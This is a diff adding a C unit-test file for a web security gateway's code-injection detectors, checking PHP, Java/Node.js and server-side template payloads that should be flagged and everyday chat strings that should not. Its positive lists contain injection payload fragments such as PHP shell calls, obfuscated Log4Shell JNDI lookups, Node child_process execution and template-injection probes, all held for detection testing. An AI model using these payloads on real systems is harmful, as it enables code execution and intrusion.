@@ -1,0 +1,125 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * The code-injection detectors (OS commands, PHP/Java/Node.js code, server-side templates)
+ * on normalised text: true positives, chat-like true negatives, and for every firing string
+ * that one of the detector's anchors is in it (the soundness the kernel prefilter relies on).
+ */
+#include <ctype.h>
+#include <stdio.h>
+#include <string.h>
+#include "wsg_test.h"
+#include "detect.h"
+
+WSG_TEST_MAIN
+
+typedef int (*wsg_detect_fn)(const struct wsg_text *t, struct wsg_hit *h);
+
+static int wsg_has_ci(const char *s, size_t n, const char *a)
+{
+	size_t m = strlen(a);
+
+	for (size_t i = 0; i + m <= n; i++) {
+		size_t k = 0;
+
+		while (k < m && tolower((unsigned char)s[i + k]) == tolower((unsigned char)a[k]))
+			k++;
+		if (k == m)
+			return 1;
+	}
+	return 0;
+}
+
+/* The detector's verdict on s as inspect.c would run it: 0 unless one of its anchors gates. */
+static int wsg_fires(wsg_detect_fn fn, const char *const *anchors, const char *s)
+{
+	struct wsg_text t = { .s = s, .len = strlen(s), .quoted = 0 };
+	struct wsg_hit h = {};
+	int gated = 0;
+
+	for (size_t i = 0; anchors[i]; i++)
+		gated |= wsg_has_ci(s, t.len, anchors[i]);
+	if (!fn(&t, &h))
+		return 0;
+	if (!gated) {
+		printf("#   fired without an anchor: %s (%s)\n", s, h.rule->id);
+		return -1;
+	}
+	return 1;
+}
+
+#define CMDI(s) wsg_fires(wsg_detect_cmdi, wsg_cmdi_anchors, s)
+#define CODE(s) wsg_fires(wsg_detect_code, wsg_code_anchors, s)
+#define SSTI(s) wsg_fires(wsg_detect_ssti, wsg_ssti_anchors, s)
+
+WSG_TEST(code_php_positives)
+{
+	static const char *const pos[] = {
+		"<?php echo 'x'; ?>", "<?= $x ?>", "[php]echo 1;[/php]", "{php}echo `id`;{/php}",
+		"$_get['cmd']", "system('id')", "base64_decode()", "shell_exec=(bla)",
+		"$__[_](24)", "${'a'}(11)", "('system')('whoami')", "(sy.(st).em)(@id)",
+		"zip://archive.zip", "o:8:\"stdclass\":1:{s:1:\"a\";i:1;}", "shell.php..",
+		"photo. php", "sess_d8ew88tqmabdcokhumchy8htqm", "allow_url_include=on",
+		"gzuncompress/*x*/()", "foogzinflate()", NULL,
+	};
+
+	for (int i = 0; pos[i]; i++)
+		CHECK(CODE(pos[i]) == 1, "php positive: %s", pos[i]);
+}
+
+WSG_TEST(code_java_node_positives)
+{
+	static const char *const pos[] = {
+		"java.lang.runtime", "test=java.io.bufferedreader", "runtime.invokertransformer",
+		"ro0abxnyabfqyxz", "${jndi:ldap://x.y/a}", "${${lower:j}ndi:ldap://x/a}",
+		"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "hj1bnrpbwu", "shell.jsp ",
+		"require('child_process').exec('id')", "process.mainmodule.require('fs')",
+		"this.constructor.constructor('return process')()", "console.info(1)",
+		"while(!0);", "new function ('return 1')", "\"$1:__proto__:then\"", NULL,
+	};
+
+	for (int i = 0; pos[i]; i++)
+		CHECK(CODE(pos[i]) == 1, "java/node positive: %s", pos[i]);
+}
+
+WSG_TEST(code_chat_negatives)
+{
+	static const char *const neg[] = {
+		"try console.log(typeof null) and be amazed", "arr.map(x => x * 2).filter(boolean)",
+		"import os; os.path.join('a', 'b')", "f(x) = 3x - 7", "file: report_final(2).pdf",
+		"the ecosystem() call", "unable to lookup ubuntu via gethostbyname()",
+		"http://www.example.com/drivers/downloads-ubuntu-x86.php", "richard.php@mail.com",
+		"i like java.com and www.java.com", "export path=$home/bin:$path in your .bashrc",
+		"prices: $4.99 (approx)", "while (foo) is bar.", "the '90s were wild",
+		"sess_short", "<?xml version=\"1.0\"?>", "i need a new java runtime", NULL,
+	};
+
+	for (int i = 0; neg[i]; i++)
+		CHECK(CODE(neg[i]) == 0, "code negative: %s", neg[i]);
+}
+
+WSG_TEST(ssti_positives)
+{
+	static const char *const pos[] = {
+		"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{''.__class__}}",
+		"{% block body %}", "{{ value|e }}", "{{#with \"s\" as |string|}}",
+		"<#assign ex = \"freemarker.template.utility.execute\"?new()>", "{$smarty.version}",
+		"${t(java.lang.runtime).getruntime()}", "#{runtime.exec('id')}", "*{ ... }",
+		"x.__class__.__mro__", "{{ request }}", NULL,
+	};
+
+	for (int i = 0; pos[i]; i++)
+		CHECK(SSTI(pos[i]) == 1, "ssti positive: %s", pos[i]);
+}
+
+WSG_TEST(ssti_chat_negatives)
+{
+	static const char *const neg[] = {
+		"{{ name }} is how handlebars prints a value", "in jinja you write {% for item in items %}",
+		"the template literal is `hello ${name}`", "use ${home}/projects instead",
+		"#{name}", "echo ${var:-default} and ${#arr[@]}", "the i18n string is '{count} new'",
+		"i <3 you", "50% off, 100% sure", NULL,
+	};
+
+	for (int i = 0; neg[i]; i++)
+		CHECK(SSTI(neg[i]) == 0, "ssti negative: %s", neg[i]);
+}
